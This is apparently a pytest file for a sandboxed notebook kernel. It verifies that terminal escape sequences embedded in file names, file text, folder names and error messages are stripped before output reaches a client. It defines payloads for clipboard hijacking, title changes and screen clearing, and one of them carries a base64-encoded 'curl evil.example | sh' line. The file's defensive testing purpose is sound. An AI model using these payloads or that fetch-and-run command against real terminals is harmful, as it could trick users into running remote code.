"""Text from the box is text: terminal controls in file names, file text, folders and error messages
never reach a client as controls. Each test is the attack.

`jupyter console` prints what the kernel sends to a real terminal, which obeys it: OSC 52 sets the
clipboard, OSC 0 the window title, `ESC [ 2 J` clears the screen. A command's own output went through
the terminal filter; these tests make files and folders named with those sequences (and files holding
them) and look at every message each magic, error, completion and inspection sends: no ESC but
colours (SGR), no other control but `\\r`, `\\n` and `\\t`. The unit tests pin the one filter
(`terminal_text.shown_text`) and the fields of messages it is applied to (`box_text`).
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from owsandbox.kernel.cell.terminal_text import shown_text
from owsandbox.kernel.display import box_text

from ..conftest import kernel_in
from ..kernel_session import CellRun, KernelSession

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
TITLE = "\x1b]0;owned-title\x07"
CLEAR = "\x1b[2J\x1b[H"
ATTACKS = {
    "clipboard": CLIPBOARD,
    "title": TITLE,
    "clear": CLEAR,
    "title-st": "\x1b]2;owned\x1b\\",
    "c1": "\x9d0;owned\x9c\x9b2J",
    "dcs": "\x1bP+q544e\x1b\\",
    "alt-screen": "\x1b[?1049h",
    "reset": "\x1bc",
    "bell-and-backspace": "\x07\x08\x08\x08xxx",
    "unfinished": "\x1b]52;c;AAAA",
}
SGR = re.compile(r"\x1b\[[0-9;:]*m")
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def strings_in(value: Any) -> Iterator[str]:
    stack = [value]
    while stack:
        item = stack.pop()
        if isinstance(item, str):
            yield item
        elif isinstance(item, dict):
            stack.extend(item.keys())
            stack.extend(item.values())
        elif isinstance(item, (list, tuple)):
            stack.extend(item)


def controls_in(value: Any) -> list[str]:
    """Every control character in `value`'s strings that is not part of a colour, \\r, \\n or \\t."""
    return [found for text in strings_in(value) for found in CONTROL.findall(SGR.sub("", text))]


def assert_text_only(run: CellRun) -> None:
    """No message of the cell, nor its reply, carries a control but colours, \\r, \\n and \\t."""
    for message in [*run.outputs, run.reply]:
        assert not controls_in(message["content"]), (message["msg_type"], message["content"])


# -- the filter -----------------------------------------------------------------------------------

@pytest.mark.unit
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_filter_takes_every_control_out_of_box_text(name: str) -> None:
    shown = shown_text(f"before {ATTACKS[name]} after")
    assert not controls_in(shown), repr(shown)
    assert shown.startswith("before ") and shown.endswith(" after") or name == "unfinished"


@pytest.mark.unit
def test_the_filter_keeps_colours_and_line_breaks_and_drops_what_the_sequences_said() -> None:
    text = "\x1b[1;31mred\x1b[0m\tcell\r\nnext line\n"
    assert shown_text(text) == text
    assert shown_text(f"a{CLIPBOARD}b{TITLE}c{CLEAR}d") == "abcd"  # the clipboard's text and the title are gone
    assert shown_text("x\x1b]52;c;AAAA") == "x"  # a sequence never ended is dropped with all it holds


@pytest.mark.unit
def test_every_field_a_client_prints_is_filtered() -> None:
    evil = f"name{TITLE}"
    assert box_text.clean("stream", {"name": "stdout", "text": evil})["text"] == "name"
    shown = box_text.clean("display_data", {"data": {"text/plain": evil, "text/html": "<b>x</b>",
                                                     "application/json": {"k": evil, evil: [evil]}},
                                            "metadata": {}})
    bare = "name]0;owned-title"  # in JSON only the control characters go: it is never printed to a terminal
    assert shown["data"] == {"text/plain": "name", "text/html": "<b>x</b>",
                             "application/json": {"k": bare, bare: [bare]}}
    error = box_text.clean("error", {"ename": evil, "evalue": evil, "traceback": [f"\x1b[31m{evil}\x1b[0m"]})
    assert error == {"ename": "name", "evalue": "name", "traceback": ["\x1b[31mname\x1b[0m"]}
    reply = box_text.clean("execute_reply", {"status": "ok", "payload": [
        {"source": "page", "data": {"text/plain": evil}, "start": 0}, {"source": "ask_exit", "keepkernel": False}]})
    assert reply["payload"] == [{"source": "page", "data": {"text/plain": "name"}, "start": 0},
                                {"source": "ask_exit", "keepkernel": False}]
    assert box_text.clean("inspect_reply", {"data": {"text/plain": evil}})["data"]["text/plain"] == "name"
    assert box_text.clean_matches(["plain.txt", evil, "dir/", "\x1b[31mred.txt"]) == ["plain.txt", "dir/"]


@pytest.mark.unit
def test_json_keeps_escaped_backslashes_and_its_own_line_breaks() -> None:
    value = {"path": "C:\\u0000\\x", "text": "a\nb\tc\x1b[2Jd", "deep": [[[["\x07"]]]]}
    cleaned = box_text.clean("display_data", {"data": {"application/json": value}})["data"]["application/json"]
    assert cleaned == {"path": "C:\\u0000\\x", "text": "a\nb\tc[2Jd", "deep": [[[[""]]]]}


# -- through a real kernel ------------------------------------------------------------------------

NAMES = {name: f"{name}-{sequence}.txt" for name, sequence in ATTACKS.items() if name != "unfinished"}
BODY = "".join(f"line {name}: {sequence} owned\n" for name, sequence in ATTACKS.items())


@pytest.fixture(scope="module")
def hostile(module_kernel: KernelSession, module_workspace: Path) -> Path:
    """A folder of files whose names and text are the attacks, and a sub-folder named with them."""
    folder = module_workspace / "hostile"
    folder.mkdir()
    for name in NAMES.values():
        (folder / name).write_text(BODY)
    (folder / f"dir-{TITLE}{CLEAR}").mkdir()
    (folder / "data.json").write_text(json.dumps({"text": BODY, TITLE: CLIPBOARD}))
    (folder / "notes.md").write_text(f"# Notes {TITLE}\n\n{BODY}")
    (folder / "page.html").write_text(f"<p>{BODY}</p>")
    return folder


def hostile_file() -> str:
    return f"hostile/{NAMES['clipboard']}"


@pytest.mark.parametrize(("cell", "expected"), [
    ("%ls hostile", "alt-screen-.txt"),
    ("%read {file}", "line title:  owned"),
    ("%read {file} --lines 2:3", "line title:  owned"),
    ("%read {file} --bytes 0:300", "line clipboard:  owned"),
    ("%read {file} --text", "line clear:  owned"),
    ("%read hostile/data.json", "line clear: [2J[H owned"),  # JSON keeps the text, without the controls
    ("%read hostile/notes.md", "line clear:  owned"),
    ("%read hostile/page.html", "line clear:  owned"),
    ("%stat {file}", "clipboard-.txt"),
    ("%search owned hostile", "line title:  owned"),
    ("owdisplay {file}; owdisplay hostile/notes.md; owdisplay hostile/data.json", "line reset:  owned"),
    ("%read hostile/missing-{title}.txt", "missing-.txt"),
    ("%stat hostile/missing-{title}", "missing-"),
    ("%ls hostile/missing-{clear}", "missing-"),
])
def test_magics_show_box_text_as_text(module_kernel: KernelSession, hostile: Path, cell: str, expected: str) -> None:
    run = module_kernel.run(cell.format(file=hostile_file(), title=TITLE, clear=CLEAR))
    assert_text_only(run)
    shown = "\n".join(strings_in([m["content"] for m in run.outputs]))
    assert expected in shown, shown[:2000]


def test_the_pager_shows_box_text_as_text(module_kernel: KernelSession, hostile: Path) -> None:
    run = module_kernel.run(f"%page {hostile_file()}")
    assert_text_only(run)
    [page] = run.reply["content"]["payload"]
    assert page["data"]["text/plain"] == shown_text(BODY)


def test_shells_and_a_shell_that_exits_name_a_hostile_folder_as_text(module_kernel: KernelSession,
                                                                    hostile: Path) -> None:
    folder = next(path.name for path in hostile.iterdir() if path.name.startswith("dir-"))
    assert module_kernel.run(f"%%shell evil\ncd 'hostile/{folder}'").status == "ok"
    listing = module_kernel.run("%shells")
    assert_text_only(listing)
    shown = listing.of_type("display_data")[0]["data"]["text/plain"]
    assert "hostile/dir-" in shown and "owned-title" not in shown, shown
    exited = module_kernel.run("%%shell evil\nexit 3")
    assert exited.error["ename"] == "ShellExited"
    assert_text_only(exited)


def test_an_attached_programs_listing_shows_its_name_as_text(module_kernel: KernelSession, hostile: Path) -> None:
    started = module_kernel.run(f"%attach --name 'engine{TITLE}' -- sleep 60")
    assert started.status == "ok", started.outputs
    try:
        listing = module_kernel.run("%attach --list")
        assert_text_only(listing)
        shown = listing.of_type("display_data")[0]["data"]["text/plain"]
        assert "engine" in shown and "owned-title" not in shown, shown
    finally:
        module_kernel.run("%attach --kill")


def test_completion_and_inspection_give_no_controls(module_kernel: KernelSession, hostile: Path) -> None:
    code = "cat hostile/"
    reply = module_kernel.kc.complete(code, len(code), reply=True, timeout=30)["content"]
    assert reply["matches"] and not controls_in(reply["matches"]), reply
    assert "hostile/data.json" in reply["matches"]
    assert module_kernel.run(f"shout() {{ echo '{TITLE}{CLIPBOARD}loud'; }}").status == "ok"
    inspected = module_kernel.kc.inspect("shout", 5, reply=True, timeout=30)["content"]
    assert inspected["found"] and "loud" in inspected["data"]["text/plain"], inspected
    assert not controls_in(inspected), inspected


def test_the_sandbox_in_a_folder_named_with_controls_describes_it_as_text(tmp_path: Path) -> None:
    folder = tmp_path / f"work-{TITLE}{CLEAR}"
    folder.mkdir()
    with kernel_in(folder) as kernel:
        first = kernel.run("pwd")  # the first cell's note says where commands run
        assert_text_only(first)
        described = kernel.run("%sandbox")
        assert_text_only(described)
        shown = described.of_type("display_data")[0]["data"]["text/plain"]
        assert "work-" in shown and "owned-title" not in shown, shown
        exited = kernel.run("exit 4")
        assert exited.error["ename"] == "ShellExited" and "work-" in exited.error["evalue"]
        assert_text_only(exited)
